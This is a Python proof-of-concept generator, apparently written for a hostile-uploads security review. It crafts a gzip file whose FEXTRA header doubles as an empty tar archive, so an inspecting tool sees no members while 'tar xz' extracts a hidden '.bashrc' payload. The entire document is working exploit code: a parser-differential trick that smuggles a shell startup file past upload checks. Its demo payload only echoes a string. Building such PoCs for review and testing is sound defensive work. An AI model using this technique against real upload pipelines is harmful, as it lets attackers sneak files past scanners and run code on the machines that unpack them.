# PoC generator for H11 (hostile-uploads review): a gzip member whose FEXTRA field holds an empty tar
# archive (a pax global header and two zero blocks). `tar xz` extracts the real archive; the tar
# follower sees an archive that ended with no member. Usage: python3 make_fextra_gzip.py OUT
import io, tarfile, zlib, struct, sys
inner=io.BytesIO()
with tarfile.open(fileobj=inner,mode='w',format=tarfile.GNU_FORMAT) as t:
    body=b'echo PWNED-from-bashrc\n'
    i=tarfile.TarInfo('.bashrc'); i.size=len(body); t.addfile(i,io.BytesIO(body))
inner=inner.getvalue()
XLEN=1536-12
head=bytearray(1536)
head[0:4]=b'\x1f\x8b\x08\x04'  # FEXTRA
head[4:8]=b'\0\0\0\0'; head[8]=0; head[9]=3
head[10:12]=struct.pack('<H',XLEN)
# the first block, read as a tar header: a pax global header ('g') of size 0 -> no member
head[100:108]=b'0000644\0'
head[124:136]=b'00000000000\0'
head[156]=ord('g')
head[148:156]=b'        '
s=sum(head[:512])
head[148:156]=b'%06o\0 '%s
c=zlib.compressobj(9,zlib.DEFLATED,-15)
data=c.compress(inner)+c.flush()
gz=bytes(head)+data+struct.pack('<II',zlib.crc32(inner)&0xffffffff,len(inner)&0xffffffff)
open(sys.argv[1],'wb').write(gz)
